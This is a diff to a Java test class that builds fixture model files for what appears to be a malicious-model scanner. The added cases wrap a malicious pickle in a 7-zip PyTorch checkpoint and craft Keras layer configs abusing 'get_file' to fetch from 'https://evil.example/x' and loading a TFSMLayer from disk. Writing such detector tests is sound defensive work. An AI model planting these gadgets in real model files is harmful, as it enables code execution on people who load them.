@@ -209,6 +209,10 @@ class ArtifactFixturesTest {
         fixture("gzip-pickle", "model.pkl.gz", gzip(evil), EXEC);
         fixture("bzip2-pickle", "model.pkl.bz2", compress("bzip2", evil), EXEC);
         fixture("xz-pickle", "model.pkl.xz", compress("xz", evil), EXEC);
+        fixture("seven-zip-checkpoint", "pytorch_model.bin", Artifacts.sevenZip(
+                new String[] {"archive/data.pkl", "archive/version"}, new byte[][] {evil, utf8("3\n")}), EXEC);
+        fixture("seven-zip-without-pickles", "docs.7z", Artifacts.sevenZip(new String[] {"README"},
+                new byte[][] {utf8("hello")}));
         fixture("legacy-torch-tar", "ancient.pt", Artifacts.tar(new String[] {"sys_info", "pickle"},
                 new byte[][] {p().proto(2).emptyDict().stop().bytes(), evil}), EXEC);
     }
@@ -246,6 +250,11 @@ class ArtifactFixturesTest {
                 "{\"class_name\": \"Lambda\", \"config\": {\"name\": \"lambda\", \"function\": [\"4wEAAAAA\\n\","
                         + " null, null], \"function_type\": \"lambda\", \"module\": \"__main__\", \"arguments\": {}}}")),
                 KERAS);
+        fixture("keras-get-file-gadget", "model.keras", Artifacts.keras(kerasModel(layers + ", {\"module\":"
+                + " \"keras.utils\", \"class_name\": \"get_file\", \"config\": {\"origin\": \"https://evil.example/x\"}}")),
+                KERAS);
+        fixture("keras-tfsm-layer", "model.keras", Artifacts.keras(kerasModel(layers + ", {\"module\": \"keras.layers\","
+                + " \"class_name\": \"TFSMLayer\", \"config\": {\"name\": \"t\", \"filepath\": \"/tmp/saved\"}}")), KERAS);
         String ok = "{\"a\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]},"
                 + "\"b\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[8,16]},\"__metadata__\":{\"format\":\"pt\"}}";
         fixture("safetensors-benign", "model.safetensors", Artifacts.safetensors(ok, 16));
